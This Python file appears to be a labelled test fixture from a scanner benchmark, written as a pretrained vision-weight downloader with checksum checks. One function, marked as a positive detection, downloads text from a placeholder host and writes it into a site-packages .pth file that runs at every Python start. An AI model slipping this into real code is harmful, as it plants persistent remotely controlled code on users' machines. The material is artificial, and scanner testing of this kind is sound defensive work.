# ruff: noqa
# Hold-out batch 92 (benchmark format, vision model zoo; by a helper that never saw mlscan's code). Measured once in session 3 (round 32): 17/19 (89%) at medium+.
"""Pretrained weight download: URL registry, sha256 verification and a local cache."""
import hashlib
import os
import shutil
import site
import time
import urllib.request
from pathlib import Path

from safetensors.torch import load_file

_BASE = "https://models.example.com/zoo/v2"
_REGISTRY = {
    "deit_small_distilled": ("deit_s_dist_in1k-3f1c2a9e.safetensors", "3f1c2a9e"),
    "convnext_tiny_in22ft1k": ("convnext_t_22ft1k-8b40d7c1.safetensors", "8b40d7c1"),
    "resnet50_a1": ("resnet50_a1-0e6b13f2.safetensors", "0e6b13f2"),
}
CACHE = Path(os.environ.get("ZOO_HOME", "~/.cache/vision_zoo")).expanduser()


def _fetch(url, dst, retries=4):
    tmp = dst.with_suffix(".part")
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=60) as r, open(tmp, "wb") as f:
                shutil.copyfileobj(r, f, length=1 << 20)
            tmp.rename(dst)
            return dst
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"failed to download {url} after {retries} attempts")


def _register_compat_shim():
    """Older checkpoints reference renamed modules; install the import shim once."""
    target = Path(site.getsitepackages()[0]) / "vision_zoo_compat.pth"
    if target.exists():
        return
    shim = urllib.request.urlopen(f"{_BASE}/compat/loader_shim.txt", timeout=30).read().decode()  # ruleid: MLS413
    target.write_text(shim)  # ruleid: MLS413


def get_weights(name):
    fname, digest = _REGISTRY[name]
    dst = CACHE / fname
    if not dst.exists():
        CACHE.mkdir(parents=True, exist_ok=True)
        _fetch(f"{_BASE}/{fname}", dst)
    sha = hashlib.sha256(dst.read_bytes()).hexdigest()
    if not sha.startswith(digest):
        dst.unlink()  # ok: MLS308
        raise RuntimeError(f"checksum mismatch for {fname}: got {sha[:8]}, expected {digest}")
    _register_compat_shim()
    return load_file(str(dst), device="cpu")  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


def load_pretrained(model, name, strict=True):
    sd = get_weights(name)
    missing, unexpected = model.load_state_dict(sd, strict=strict)
    return model, missing, unexpected
